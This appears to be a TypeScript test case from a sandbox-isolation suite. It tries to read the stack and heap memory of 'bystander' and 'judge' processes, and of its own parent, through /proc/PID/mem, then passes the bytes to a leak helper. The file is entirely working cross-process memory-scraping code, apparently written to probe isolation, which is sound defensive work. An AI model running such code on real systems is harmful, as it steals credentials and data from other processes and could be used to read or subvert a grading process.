import { openSync, readFileSync, readSync } from 'node:fs';
import { targets } from './targets.ts';
import { attempt, leak } from './tools.ts';

for (const pid of [targets.bystander.pid, targets.judge.pid, process.ppid]) {
  attempt(() => {
    const memory = openSync(`/proc/${pid}/mem`, 'r');
    for (const line of readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
      const [, from, to, name] = /^([0-9a-f]+)-([0-9a-f]+) rw\S+ \S+ \S+ \S+\s*(.*)$/.exec(line) ?? [];
      if (name !== '[stack]' && name !== '[heap]') continue;
      attempt(() => {
        const start = BigInt(`0x${from}`);
        const bytes = Buffer.alloc(Number(BigInt(`0x${to}`) - start));
        leak(bytes.subarray(0, readSync(memory, bytes, 0, bytes.length, start)));
      });
    }
  });
}
